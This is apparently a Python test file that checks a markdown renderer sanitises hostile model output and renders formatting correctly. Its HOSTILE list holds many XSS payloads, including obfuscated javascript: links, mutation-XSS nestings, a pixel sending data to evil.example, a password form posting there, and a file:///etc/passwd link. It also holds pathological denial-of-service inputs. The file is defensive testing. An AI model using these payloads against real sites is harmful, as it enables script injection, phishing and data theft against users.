"""What models write is hostile until the renderer has been over it."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from inference.rendering import markdown, mathml
from inference.rendering.highlighting import LANGUAGES, highlighted
from inference.rendering.markdown import render

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](#top)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif?q=secret)",
    '![x](https://evil.example/" onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "|a|\n|:-:|\n|<b style=color:red>x</b>|",
    "# <img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<div id=run-status class=toast>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=x id=y name=z target=_self ping=https://evil.example>x</a>",
    "<object data=x></object><embed src=x><link rel=stylesheet href=x>",
    "<custom-element onclick=alert(1)></custom-element>",
    "<copy-button></copy-button>",
]


class Inventory(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    inventory = Inventory(html)
    assert inventory.tags <= markdown.ALLOWED_TAGS
    for tag, name, value in inventory.attributes:
        if name == "href":
            assert value.lower().startswith(("http://", "https://", "mailto:"))
        elif name == "class":
            assert set(value.split()) <= markdown.ALLOWED_CLASSES[tag]
        elif name == "rel":
            assert value == "noopener noreferrer nofollow"
        elif name == "target":
            assert value == "_blank"
        elif name == "tabindex":
            assert (tag, value) in {("pre", "0"), ("div", "0"), ("span", "0")}
        elif tag in mathml.TAGS:
            assert mathml.ATTRIBUTES[tag][name].fullmatch(value)
        else:
            assert (tag, name) in {("a", "title"), ("ol", "start")}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_comes_out_harmless(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_shown_unrendered_comes_out_harmless(text: str) -> None:
    assert_harmless(markdown.as_plain_text(text))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "frame", ["> {}", "- {}", "**{}**", "`{}`", "|a|\n|-|\n|{}|", "[{}](https://a.example)"]
)
def test_hostile_markdown_inside_other_markdown_comes_out_harmless(frame: str, text: str) -> None:
    assert_harmless(render(frame.format(text)))


fragments = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(
        ["\n", "\n\n", "```", "~~~python\n", "|", "- ", "> ", "[", "](", ")", "*", "_"]
    ),
    st.sampled_from(["$", "$$", "\\(", "\\)", "\\[", "\\]", "\\text{", "}"]),
    st.text(max_size=20),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(fragments, max_size=12).map("".join))
@example("[a]: <x\n\n![a")
def test_any_mixture_comes_out_harmless(text: str) -> None:
    assert_harmless(render(text))


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=80))
def test_code_keeps_every_character(source: str) -> None:
    html = render(f"~~~~~python\n{source}\n~~~~~")

    text = Text(html).text
    assert source.strip() in text


class Text(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.text = ""
        self.feed(html)

    def handle_data(self, data: str) -> None:
        self.text += data


def test_links_open_elsewhere_and_tell_nothing_of_this_page() -> None:
    html = render("[x](https://a.example/?q=1)")

    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_an_image_becomes_a_link_with_its_description() -> None:
    html = render("![a cat](https://a.example/cat.png)")

    assert "<img" not in html
    assert 'href="https://a.example/cat.png"' in html
    assert "Image: a cat" in html


def test_an_image_inside_a_link_leaves_its_description() -> None:
    html = render("[![build](https://a.example/badge.svg)](https://a.example)")

    assert html.count("<a ") == 1
    assert ">build</a>" in html


def test_cells_are_aligned_by_class() -> None:
    html = render("|a|b|c|\n|:-|:-:|-:|\n|1|2|3|")

    assert '<td class="align-right">3</td>' in html
    assert "style" not in html


def test_headings_stand_below_the_headings_of_the_page() -> None:
    html = render("# One\n\n## Two")

    assert "<h3>One</h3>" in html
    assert "<h4>Two</h4>" in html


def test_headings_leave_no_step_out() -> None:
    html = render("### One\n\n##### Two\n\n### Three")

    assert "<h3>One</h3>" in html
    assert "<h4>Two</h4>" in html
    assert "<h3>Three</h3>" in html


def test_tasks_keep_their_marks() -> None:
    html = render("- [ ] open\n- [x] done\n- plain")

    assert '<li class="task">☐ open</li>' in html
    assert '<li class="task">☑ done</li>' in html
    assert "<li>plain</li>" in html


def test_known_languages_are_coloured_by_class() -> None:
    html = render("```py\nreturn 1\n```")

    assert '<span class="code-language">python</span>' in html
    assert '<span class="tok-keyword">return</span>' in html


def test_unknown_languages_are_shown_plain() -> None:
    html = render("```brainfudge\n+<->\n```")

    assert "code-language" not in html
    assert "+&lt;-&gt;" in html


@pytest.mark.parametrize("language", sorted(set(LANGUAGES.values())))
def test_every_named_language_has_a_lexer(language: str) -> None:
    assert highlighted("x", language)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 10_000,
        "![" * 10_000,
        "> " * 10_000 + "x",
        "- " * 10_000 + "x",
        "*a **b " * 5_000,
        "`" * 10_000 + "x" + "`" * 9_999,
        "[a](" * 10_000,
        "|a" * 500 + "\n" + "|-" * 500 + "\n" + "|b" * 500,
        "<" * 20_000,
        "- [ ] x\n" * 5_000,
        "~~~python\n" + '"""' * 6_000 + "\n~~~",
        "~~~html\n" + "<a " * 300 + "\n~~~",
        "&" * 20_000,
        "a\n" * 20_000,
        "x" * 1_000_000,
    ],
    ids=lambda text: repr(text[:8]),
)
def test_pathological_text_is_rendered_in_bounded_time(text: str) -> None:
    begin = time.perf_counter()

    html = render(text)

    assert_harmless(html)
    assert time.perf_counter() - begin < 3


def test_very_long_text_is_shown_as_it_is() -> None:
    html = render("**x**" * 50_000)

    assert html.startswith('<pre class="plain" tabindex="0">')
